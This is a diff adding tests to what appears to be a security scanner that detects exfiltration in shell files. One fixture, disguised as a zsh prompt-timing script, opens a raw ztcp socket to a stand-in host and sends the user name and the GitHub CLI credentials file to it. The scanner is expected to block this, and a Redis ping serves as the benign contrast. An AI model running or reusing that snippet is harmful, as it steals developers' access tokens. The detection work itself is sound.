@@ -38,3 +38,29 @@ def test_onbuild_steps_and_inline_program_counting_its_input_do_not_block(tmp_pa
         "ONBUILD RUN env | python3 -c 'import sys; print(len(sys.stdin.read().splitlines()))'\n"
     )
     assert blocking(tmp_path, {"Dockerfile": dockerfile}) == {}
+
+
+# ------------------------------------------------ zsh's own TCP client
+
+
+def test_zsh_ztcp_connection_fed_credentials_blocks(tmp_path: Path) -> None:
+    zsh = (
+        "zmodload zsh/net/tcp\n"
+        "ztcp metrics.sink.example.test 9000 || return\n"
+        "sock=$REPLY\n"
+        "{ print -r -- $USER; cat ~/.config/gh/hosts.yml } >&$sock\n"
+        "ztcp -c $sock\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"prompt/timing.zsh": zsh})
+
+
+def test_zsh_ztcp_connection_fed_a_ping_does_not_block(tmp_path: Path) -> None:
+    zsh = (
+        "zmodload zsh/net/tcp\n"
+        "ztcp localhost 6379 || return\n"
+        "sock=$REPLY\n"
+        "{ print -r -- PING; print -r -- QUIT } >&$sock\n"
+        "read -r reply <&$sock\n"
+        "ztcp -c $sock\n"
+    )
+    assert blocking(tmp_path, {"prompt/redis.zsh": zsh}) == {}
